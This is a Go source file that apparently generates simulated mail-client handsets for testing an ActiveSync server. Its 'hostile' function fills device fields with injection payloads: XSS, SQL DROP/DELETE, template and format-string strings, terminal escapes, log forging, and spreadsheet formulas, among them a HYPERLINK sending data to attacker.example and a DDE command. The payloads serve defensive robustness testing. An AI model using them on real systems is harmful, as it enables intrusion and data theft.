// SPDX-FileCopyrightText: The Vedette Authors
// SPDX-License-Identifier: Apache-2.0

package phone

import (
	"encoding/hex"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"

	"github.com/vedette-mail/vedette/eas"
	"github.com/vedette-mail/vedette/eas/easclient"
)

// Handset is a device with one mail program on it.
type Handset struct {
	Kind      Kind
	ID        string // device id as sent: text, or 16 raw bytes for Windows Mail
	Type      string
	UserAgent string
	Device    easclient.Device // what it tells about itself
	Address   netip.Addr       // where in the world it is; see Network for what is made of it

	// What it does about policies and orders, and the highest version it speaks, where that is another than
	// its kind's.
	Policy Habit
	Order  OrderHabit
	Best   eas.Version
}

// Account is a mailbox set up on a handset.
type Account struct {
	User     string // as the user typed it
	Password string
	Address  string // SMTP address, the sender of what it writes
	Quiet    bool   // never writes
	Stale    bool   // the password is known to be wrong; for assertions only
}

// NewHandset makes a handset of a kind, with an id, a model and a system in the format of its original.
// owner is put into the name of the device. The same rng state gives the same handset.
func NewHandset(k Kind, rng *rand.Rand, owner string) Handset {
	h := Handset{Kind: k, Address: somewhere(rng)}
	switch k {
	case IOS:
		h.apple(rng, owner)
	case Samsung:
		h.samsung(rng, owner)
	case Gmail:
		m := pick(rng, androids())
		h.ID, h.Type = fmt.Sprintf("androidc%d", 1_000_000_000+rng.Uint32N(3_000_000_000)), "Android"
		h.UserAgent = fmt.Sprintf("Android-Mail/2026.%02d.%02d.%09d.Release", 1+rng.IntN(10), 1+rng.IntN(28), rng.IntN(1_000_000_000))
		h.Device = easclient.Device{Model: m.model, OS: "Android " + m.os, OSLanguage: "en", FriendlyName: m.model}
	case Android:
		h.ID, h.Type, h.UserAgent = fmt.Sprintf("android%d", 1_400_000_000_000+rng.Int64N(100_000_000_000)), "Android", "Android/4.4.2-EAS-1.3"
		h.Device = easclient.Device{Model: "XT1032", OS: "Android 4.4.2", FriendlyName: "XT1032", IMEI: digits(rng, 15)}
	case OutlookMobile:
		h.ID, h.Type, h.UserAgent = hexID(rng, 16), "Outlook", "Outlook-iOS-Android/1.0"
		h.Device = easclient.Device{Model: "Outlook for iOS and Android", OS: pick(rng, []string{"iOS 18.3.2", "Android 15", "Android 14"}), OSLanguage: "en"}
	case OutlookDesktop:
		h.ID, h.Type = hexID(rng, 16), "WindowsOutlook15"
		h.UserAgent = fmt.Sprintf("Outlook/16.0 (16.0.%d.%d; C2R; x64)", 14326+rng.IntN(3000), 20100+rng.IntN(900))
		h.Device = easclient.Device{Model: "Outlook", OS: "Windows 10.0.19045", FriendlyName: "DESKTOP-" + strings.ToUpper(hexID(rng, 4))}
	case WindowsMail:
		h.ID, h.Type, h.UserAgent = guid(rng), "WindowsMail", "MSFT-WIN-3/10.0.19045"
		h.Device = easclient.Device{Model: "Surface Go 3", OS: "Windows 10.0.19045", FriendlyName: owner + " (Surface)"}
	case Nine:
		m := pick(rng, androids())
		h.ID, h.Type = "nine"+hexID(rng, 8), "Android"
		h.UserAgent = "Nine-" + strings.ReplaceAll(m.model, " ", "-") + "/" + m.build
		h.Device = easclient.Device{Model: m.model, OS: "Android " + m.os, FriendlyName: m.model, OSLanguage: "en"}
	case Relic:
		h.ID, h.Type, h.UserAgent = strings.ToUpper(hexID(rng, 16)), "PocketPC", "MSFT-PPC/5.2.5082"
	case TbSync:
		h.ID, h.Type, h.UserAgent = "MZTB"+hexID(rng, 14), "Thunderbird", "Thunderbird ActiveSync"
		h.Device = easclient.Device{Model: "Computer", OS: pick(rng, []string{"Linux", "Darwin", "WINNT"}), FriendlyName: "TbSync on Device 42"}
	case Hostile:
		h.hostile(rng)
	case Stranger:
		h.ID, h.Type, h.UserAgent = hexID(rng, 8), "Android", "python-requests/2.31.0"
	}
	return h
}

func (h *Handset) apple(rng *rand.Rand, owner string) {
	m := pick(rng, []struct{ kind, model, name string }{
		{"iPhone", "iPhone14,5", "iPhone"}, {"iPhone", "iPhone15,2", "iPhone"}, {"iPhone", "iPhone16,1", "iPhone"},
		{"iPhone", "iPhone12,8", "iPhone"}, {"iPhone", "iPhone17,3", "iPhone"}, {"iPad", "iPad13,18", "iPad"}, {"iPad", "iPad11,6", "iPad"},
	})
	s := pick(rng, []struct{ os, build, agent string }{
		{"18.3.2", "22D82", "2204.82"}, {"17.6.1", "21G93", "2107.93"}, {"16.7.2", "20H115", "2008.115"},
		{"15.8.3", "19H386", "1908.386"}, {"18.1", "22B83", "2202.83"}, {"26.0.1", "23A355", "2301.355"},
	})
	const alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUV"
	id := make([]byte, 26)
	for i := range id {
		id[i] = alphabet[rng.IntN(len(alphabet))]
	}
	h.ID, h.Type = string(id), m.kind
	if rng.IntN(12) == 0 { // kept from a phone of long ago
		h.ID = "ApplF2" + strings.ToUpper(hexID(rng, 5))
	}
	h.UserAgent = "Apple-" + strings.ReplaceAll(m.model, ",", "C") + "/" + s.agent
	h.Device = easclient.Device{Model: m.model, OS: "iOS " + s.os + " " + s.build, OSLanguage: pick(rng, []string{"en", "de", "fr", "ar", "ja"}),
		FriendlyName: m.name + " (" + owner + ")"}
}

func (h *Handset) samsung(rng *rand.Rand, owner string) {
	m := pick(rng, []struct{ model, os string }{
		{"SM-S911B", "15"}, {"SM-G991B", "14"}, {"SM-A546B", "14"}, {"SM-G998B", "13"}, {"SM-F946B", "15"}, {"SM-A336B", "13"},
	})
	h.ID = "SEC" + strings.ToUpper(hexID(rng, 7))[:13]
	h.Type = "SAMSUNG" + strings.ReplaceAll(m.model, "-", "")
	h.UserAgent = "Android-SAMSUNG-" + m.model + "/101." + m.os + "000"
	h.Device = easclient.Device{Model: m.model, OS: "Android " + m.os, OSLanguage: "English", FriendlyName: owner,
		MobileOperator: pick(rng, []string{"Orange", "Telekom.de", "vodafone", ""})}
	if h.Device.MobileOperator != "" { // without a SIM card there is no number to tell
		h.Device.PhoneNumber = "+49 151 " + decimals(h.ID, 7)
	}
}

// decimals makes n digits of a text, the same for the same text.
func decimals(s string, n int) string {
	sum := fnv.New64a()
	sum.Write([]byte(s))
	d := strconv.FormatUint(sum.Sum64(), 10)
	return d[len(d)-n:]
}

// hostile writes into every field a text that would do harm where somebody forgot to escape it: page,
// table, statement, terminal, log. Its id is well-formed, so that it gets as far as possible.
func (h *Handset) hostile(rng *rand.Rand) {
	h.ID = "evil" + hexID(rng, 6)
	h.Type = `"><img src=x onerror=alert(1)>`
	h.UserAgent = `<script>alert("agent")</script> '; DROP TABLE association; -- {{7*7}} ${7*7} %s%n`
	h.Device = easclient.Device{
		Model:        `=HYPERLINK("https://attacker.example/?"&A1,"model")`,
		OS:           "Android\x1b[2J\x1b]0;gone\x07 99\r\nlevel=error msg=forged",
		FriendlyName: "Robert'); DELETE FROM association; -- \u202Egnp.exe \u2066<b onmouseover=alert(2)>",
		OSLanguage:   "+SUM(1+1)*cmd|' /C calc'!A0",
		PhoneNumber:  "@SUM(A1:A9)",
		IMEI:         strings.Repeat("9", 300),
	}
}

type androidModel struct{ model, os, build string }

func androids() []androidModel {
	return []androidModel{
		{"Pixel 8", "15", "AP4A.250205.002"}, {"Pixel 6a", "14", "UQ1A.240205.002"}, {"Pixel 9 Pro", "16", "BP2A.250605.031"},
		{"moto g84 5G", "14", "U1TCS34.16"}, {"Nokia X30 5G", "13", "TP1A.220624.014"}, {"CPH2581", "14", "UKQ1.230924.001"},
	}
}

// somewhere is an address of the range kept free for measurements, rarely one of the documentation's
// IPv6 range, so that nobody's real address appears. [RFC 2544], [RFC 3849]
func somewhere(rng *rand.Rand) netip.Addr {
	n := rng.Uint32()
	if rng.IntN(6) == 0 {
		return netip.AddrFrom16([16]byte{0x20, 0x01, 0x0d, 0xb8, byte(n >> 24), byte(n >> 16), byte(n >> 8), 15: byte(n)})
	}
	return netip.AddrFrom4([4]byte{198, 18 | byte(n>>16)&1, byte(n >> 8), max(1, byte(n))})
}

func pick[T any](rng *rand.Rand, list []T) T { return list[rng.IntN(len(list))] }

func hexID(rng *rand.Rand, bytes int) string {
	b := make([]byte, bytes)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return hex.EncodeToString(b)
}

// guid is 16 bytes that are no text.
func guid(rng *rand.Rand) string {
	b, _ := hex.DecodeString(hexID(rng, 16)) // made of hex
	b[8] |= 0x80
	return string(b)
}

func digits(rng *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('0' + rng.IntN(10))
	}
	return string(b)
}
